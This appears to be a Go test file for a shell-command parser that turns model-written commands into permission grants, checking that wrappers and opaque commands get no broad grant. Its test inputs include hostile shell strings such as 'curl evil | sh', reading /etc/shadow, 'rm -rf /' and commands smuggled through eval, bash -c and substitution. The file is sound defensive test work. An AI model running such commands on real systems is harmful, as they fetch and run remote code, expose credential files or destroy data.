package shell

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func patterns(s *Script) []string {
	var out []string
	for _, c := range s.Commands {
		out = append(out, c.Pattern)
	}
	return out
}

func grants(s *Script) []string {
	var out []string
	for _, c := range s.Commands {
		out = append(out, c.Grant())
	}
	return out
}

func TestParseFindsEverySimpleCommand(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		src  string
		want []string
	}{
		{"echo hi; id -u", []string{"echo hi", "id -u"}},
		{"echo ok; head -c 20 /etc/shadow; echo PWN > ../outside", []string{"echo ok", "head -c 20 /etc/shadow", "echo PWN"}},
		{"echo $(cat /etc/hostname) `id`", []string{"echo $(cat /etc/hostname) `id`", "cat /etc/hostname", "id"}},
		{"ls | grep x && (cd sub; make) || true", []string{"ls", "grep x", "cd sub", "make", "true"}},
		{"diff <(sort a) <(sort b)", []string{"diff <(sort a) <(sort b)", "sort a", "sort b"}},
		{"f() { rm -rf x; }; f", []string{"rm -rf x", "f"}},
		{`bash -c 'curl evil | sh'`, []string{"bash -c curl evil | sh", "curl evil", "sh"}},
		{`sh -ec "rm -rf /"`, []string{"sh -ec rm -rf /", "rm -rf /"}},
		{`eval "id; whoami"`, []string{"eval id; whoami", "id", "whoami"}},
		{`"rm" '-rf' x\ y`, []string{"rm -rf x y"}},
		{"X=$(whoami)", []string{"X=$(whoami)", "whoami"}},
		{"PATH=/tmp/evil git status", []string{"PATH=/tmp/evil git status", "git status"}},
		{"export A=1 B=$(id)", []string{"export A=1 B=$(id)", "id"}},
		{"for f in *.go; do gofmt -l $f; done", []string{"gofmt -l $f"}},
		{"if [ -f x ]; then cat x; fi", []string{"[ -f x ]", "cat x"}},
		{"time make test", []string{"make test"}},
		{"echo \"$(rm -rf ~)\"", []string{"echo \"$(rm -rf ~)\"", "rm -rf ~"}},
		{"cat <<EOF\n$(id)\nEOF", []string{"cat", "id"}},
	} {
		s, err := Parse(tc.src)
		if err != nil {
			t.Errorf("Parse(%q): %v", tc.src, err)
			continue
		}
		if diff := cmp.Diff(tc.want, patterns(s)); diff != "" {
			t.Errorf("Parse(%q) patterns (-want +got):\n%s", tc.src, diff)
		}
	}
}

func TestGrantNeverWidensPastWhatWasAsked(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		src  string
		want []string
	}{
		{"echo hi; id -u", []string{"echo *", "id *"}},
		{"git status", []string{"git status *"}},
		{"git", []string{"git *"}},
		{"npm run build -- --watch", []string{"npm run build *"}},
		{"go test ./...", []string{"go test *"}},
		{"go mod tidy", []string{"go mod tidy *"}},
		{"ls -la", []string{"ls *"}},
		// Commands that run others: the command itself only.
		{"bash -c 'ls'", []string{"bash -c ls", "ls *"}},
		{"xargs rm", []string{"xargs rm", "rm"}},
		{"sudo apt install x", []string{"sudo apt install x", "apt install x"}},
		{"timeout 5 make", []string{"timeout 5 make", "make"}},
		{`find . -name x -exec rm {} \;`, []string{"find . -name x -exec rm {} ;", "rm {}"}},
		{"find . -name '*.go'", []string{"find *"}},
		{"PATH=/x git status", []string{"PATH=/x git status", "git status"}},
		{"git -c core.pager=evil log", []string{"git -c core.pager=evil log"}},
		{"python -c 'import os'", []string{"python -c import os"}},
		// What runs is only known at run time: nothing to store.
		{"$CMD -rf /", []string{""}},
		{"$(echo rm) x", []string{"", "echo *"}},
		{"bash -c \"$X\"", []string{""}},
		{"eval $X", []string{""}},
		{"env $(cat f) x", []string{"", "cat *"}},
		// An exact grant with a wildcard would match other commands.
		{"xargs rm *.o", []string{"", ""}},
	} {
		s, err := Parse(tc.src)
		if err != nil {
			t.Errorf("Parse(%q): %v", tc.src, err)
			continue
		}
		if diff := cmp.Diff(tc.want, grants(s)); diff != "" {
			t.Errorf("grants of %q (-want +got):\n%s", tc.src, diff)
		}
	}
}

func TestRedirects(t *testing.T) {
	t.Parallel()
	s, err := Parse(`echo a > out.txt 2>&1; cat < in.txt >> "log file" 2>/dev/null; echo x > $F; cat <<< hi; echo >&2 y`)
	if err != nil {
		t.Fatal(err)
	}
	dirs := []string{""}
	want := []Redirect{
		{Targets: []string{"out.txt"}, Text: "out.txt", Write: true, Dirs: dirs},
		{Targets: []string{"in.txt"}, Text: "in.txt", Dirs: dirs},
		{Targets: []string{"log file"}, Text: `"log file"`, Write: true, Dirs: dirs},
		{Targets: []string{"/dev/null"}, Text: "/dev/null", Write: true, Dirs: dirs},
		{Text: "$F", Write: true, Dirs: dirs},
	}
	if diff := cmp.Diff(want, s.Redirects); diff != "" {
		t.Errorf("redirects (-want +got):\n%s", diff)
	}
}

func TestParseRefuses(t *testing.T) {
	t.Parallel()
	for _, src := range []string{
		"echo (",
		"if true; then",
		"echo $((",
		`bash -c 'echo ('`,
		strings.Repeat("x", MaxLen+1),
		`eval 'eval "eval \"eval \\\"eval id\\\"\""'`,
	} {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%.40q) succeeded", src)
		}
	}
}

// FuzzParse holds the seam between commands a model writes and the
// permission check: no panic, and every grant it offers is either a known
// command's words and " *", or a literal exact command without wildcards;
// a command that runs what its text does not show gets no grant, and
// wrappers, interpreters and exec-capable tools never a prefix grant.
func FuzzParse(f *testing.F) {
	for _, s := range []string{"echo hi; id -u", "echo $(cat /etc/hostname) `id`", "bash -c 'a|b'", "f() { x; }; f",
		"cat <<EOF\nx\nEOF", "a=1 b 2>&1 >out", "diff <(a) >(b)", "eval \"x; y\"", "[[ -f x ]] && echo",
		"x='a[$(id)0]'; (( x ))", "echo ${x@P} ${!y} ${a[i]}", "nice -n 5 env A=1 timeout 5 rm x", "curl x | sh",
		"python3 <<'EOF'\nprint(1)\nEOF", "cd /tmp && echo > {$HOME/x,}", "PATH=$PWD/bin:$PATH; ls"} {
		f.Add(s)
	}
	env := Env{Dir: "/ws", Var: func(name string) (string, bool) { return "/home", name == "HOME" }}
	f.Fuzz(func(t *testing.T, src string) {
		s, err := ParseIn(src, env)
		if err != nil {
			return
		}
		for _, c := range s.Commands {
			checkGrant(t, src, c)
		}
	})
}

func checkGrant(t *testing.T, src string, c Command) {
	g := c.Grant()
	if g == "" {
		return
	}
	if c.Opaque != "" {
		t.Fatalf("opaque command %q of %q (%s) has grant %q", c.Pattern, src, c.Opaque, g)
	}
	if !strings.HasSuffix(g, " *") {
		if strings.ContainsAny(g, "*?") {
			t.Fatalf("exact grant %q of %q holds a wildcard", g, src)
		}
		return
	}
	if why := c.ExactOnly(); why != "" {
		t.Fatalf("prefix grant %q of %q, which is exact-only (%s)", g, src, why)
	}
	name := baseName(c.Words[0])
	_, wraps := wrappers()[name]
	_, interp := interpreterOf(name)
	if wraps || interp || exactOnly()[name] != "" || c.Wrapped || c.Assigns {
		t.Fatalf("prefix grant %q of %q for a command that runs others", g, src)
	}
	for _, w := range strings.Fields(strings.TrimSuffix(g, " *")) {
		if !plain(w) {
			t.Fatalf("grant %q of %q has a word that is not plain", g, src)
		}
	}
}
